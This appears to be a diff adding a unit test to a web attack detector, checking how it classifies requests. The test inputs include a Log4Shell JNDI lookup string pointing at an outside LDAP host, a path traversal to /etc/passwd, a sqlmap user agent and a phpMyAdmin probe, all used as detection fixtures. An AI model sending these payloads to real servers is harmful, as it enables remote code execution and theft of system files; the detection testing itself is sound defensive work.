@@ -117,6 +117,28 @@ describe('attackIn', () => {
     );
   });
 
+  it('judges each part of a request by itself, in whatever order they came before', () => {
+    const said = (target: string, more: Partial<WebRequest>) => {
+      const attack = attackIn(ask(target, more));
+      return attack && `${attack.class} ${attack.where} ${attack.sure}`;
+    };
+    const tool = { agent: 'sqlmap/1.8' };
+    const log4j = { referrer: '${jndi:ldap://203.0.113.99/a}' };
+    for (let round = 0; round < 3; round += 1) {
+      // Who has the application visits it; who has it not and is asked for it is searched.
+      expect(said('/phpmyadmin/', { status: 200 })).toBeNull();
+      expect(said('/phpmyadmin/', { status: 404 })).toBe('probe target true');
+      expect(said('/news', tool)).toBe('scanner header true');
+      expect(said('/news', {})).toBeNull();
+      expect(said('/news', log4j)).toBe('java header true');
+      // The first of the tables wins, whichever header it is; a target that is sure wins over both, and a header that is sure over a weak target.
+      expect(said('/news', { ...tool, ...log4j })).toBe('scanner header true');
+      expect(said('/a?b=../../../etc/passwd', tool)).toBe('lfi target true');
+      expect(said('/a/../b', {})).toBe('lfi target false');
+      expect(said('/a/../b', tool)).toBe('scanner header true');
+    }
+  });
+
   it('never throws, whatever is asked', () => {
     const bits = fc.constantFrom(
       "'",
